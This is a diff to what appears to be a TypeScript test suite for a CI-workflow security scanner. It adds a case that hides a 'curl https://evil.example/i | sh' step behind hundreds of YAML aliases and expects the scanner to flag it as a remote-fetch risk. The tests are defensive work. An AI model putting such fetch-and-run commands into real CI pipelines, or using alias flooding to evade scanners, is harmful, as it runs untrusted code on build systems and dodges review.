@@ -158,6 +158,12 @@ const ATTACKS: readonly (readonly [name: string, path: string, content: string, 
     /^ci\.remote/,
   ],
   [
+    'behind more aliases than are looked up',
+    GITHUB,
+    `a: &a 1\n${'b: [*a, *a, *a, *a]\n'.repeat(300)}${job('- { name: x, run: "curl https://evil.example/i | sh" }')}`,
+    /^ci\.remote/,
+  ],
+  [
     'no whole document',
     GITHUB,
     `${job('- run: make')}      - run: curl https://evil.example/i | sh\n  bad: [`,
